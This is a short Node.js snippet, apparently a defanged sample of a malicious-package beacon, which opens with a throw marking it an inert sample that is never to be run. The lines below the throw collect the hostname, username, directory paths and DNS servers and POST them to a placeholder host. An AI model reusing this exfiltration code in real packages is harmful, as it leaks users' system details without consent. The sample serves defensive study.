throw new Error("inert sample: never run");
const os = require("os");
const https = require("https");
const data = JSON.stringify({
  h: os.hostname(),
  u: os.userInfo().username,
  d: __dirname,
  home: os.homedir(),
  dns: require("dns").getServers(),
});
const request = https.request({ hostname: "count.example.invalid", port: 443, path: "/", method: "POST" });
request.write(data);
request.end();
